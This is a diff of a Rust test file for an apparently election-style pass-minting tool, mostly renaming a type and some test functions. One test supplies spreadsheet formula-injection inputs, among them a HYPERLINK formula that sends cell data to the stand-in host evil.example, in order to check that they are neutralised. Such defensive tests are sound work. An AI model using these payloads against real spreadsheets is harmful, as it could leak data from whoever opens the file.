@@ -5,7 +5,7 @@ use std::{collections::BTreeMap, fs, io::Read as _};
 use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
 use flate2::read::GzDecoder;
 
-use crate::session::{Said, Session, assert_transcript};
+use crate::session::{CommandOutput, Session, assert_transcript};
 
 const DEFINITION: &str = r#"
 [contest]
@@ -55,7 +55,7 @@ fn with_contest() -> Session {
 }
 
 /// Mints for a file of this content.
-fn mint(session: &Session, content: impl AsRef<[u8]>, more: &[&str]) -> Said {
+fn mint(session: &Session, content: impl AsRef<[u8]>, more: &[&str]) -> CommandOutput {
     session.write("voters.txt", content);
     let mut args = vec!["pass", "mint", "photo", "--subjects", "voters.txt"];
     args.extend(TEMPLATE);
@@ -150,7 +150,7 @@ fn a_person_stays_the_same_voter_under_another_table_of_domains() {
 }
 
 #[test]
-fn identifiers_of_the_organiser_are_no_formulas_in_the_file_of_passes() {
+fn neutralises_formulas_in_pass_file() {
     let session = with_contest();
     let list = "=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")\n+1+1\n@SUM(A1)\n\u{ff1d}1+1\nmember 0042\n member 0042 \n";
     let said = mint(&session, list, &["--subjects-are", "ids"]);
@@ -168,7 +168,7 @@ fn identifiers_of_the_organiser_are_no_formulas_in_the_file_of_passes() {
 
 /// A data directory of the program before this one: the upgrade makes no subject another voter, who could then vote a second time.
 #[test]
-fn a_contest_of_before_goes_on_byte_for_byte() {
+fn older_contest_keeps_comparing_bytes() {
     const FIXTURE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/fixtures/raw-subjects/");
     let session = Session::new();
     fs::create_dir(session.path("acclaim-data")).unwrap();
